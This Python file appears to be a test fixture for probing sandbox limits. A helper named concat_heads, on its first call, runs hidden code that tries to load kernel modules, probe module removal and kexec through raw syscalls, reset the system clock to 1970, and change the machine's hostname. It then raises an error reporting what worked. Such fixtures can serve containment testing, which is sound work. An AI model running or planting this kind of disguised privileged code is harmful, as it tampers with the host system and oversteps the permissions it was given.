"""Loads and unloads kernel modules, boots another kernel, sets the clock and the machine's name.

outcome: raised
says: nothing done
bites: open
"""

import ctypes
import glob
import os
import platform
import socket

libc = ctypes.CDLL(None, use_errno=True)
USER, NAMES = 0x10000000, 0x4000000  # CLONE_NEWUSER, CLONE_NEWUTS


def in_a_fork(attempt):
    """What it says, in a process of its own, so that the one that answers stays as it is."""
    reader, writer = os.pipe()
    try:
        pid = os.fork()
    except OSError:
        os.close(reader)
        os.close(writer)
        return attempt()
    if pid == 0:
        os.write(writer, attempt().encode() or b" ")
        os._exit(0)
    os.waitpid(pid, 0)
    os.close(writer)
    said = os.read(reader, 200).decode().strip()
    os.close(reader)
    return said
INIT, FINIT, DELETE, KEXEC = (175, 313, 176, 246) if platform.machine() == "x86_64" else (105, 273, 106, 104)


def attack():
    done = []
    for path in glob.glob("/usr/lib/modules/*/kernel/**/dummy.ko*", recursive=True)[:1]:
        if libc.syscall(FINIT, os.open(path, os.O_RDONLY), b"", 0) == 0:
            done.append("loaded a module")
    if libc.syscall(INIT, b"\x7fELF" + b"\0" * 100, ctypes.c_size_t(104), b"") == 0:
        done.append("loaded a module")
    if libc.syscall(DELETE, b"softmark_no_such_module", 0) == 0 or ctypes.get_errno() == 2:
        done.append("may unload modules")
    if libc.syscall(KEXEC, 0, 0, None, 0) == 0:
        done.append("may boot another kernel")
    if libc.settimeofday(ctypes.byref((ctypes.c_long * 2)(1, 0)), None) == 0:
        done.append("set the clock")
    named = in_a_fork(set_the_name)
    return [*done, named] if named else done


def set_the_name():
    # Its own name in a namespace of its own, if not the machine's.
    own = libc.unshare(USER | NAMES) == 0
    try:
        socket.sethostname("softmark-trace")
    except OSError:
        return "names of its own" if own else ""
    return "set the name"


SEEN = []


def concat_heads(x):
    if not SEEN:
        SEEN.append(attack())
    raise ValueError("softmark-harm: " + ", ".join(SEEN[0]) if SEEN[0] else "nothing done")
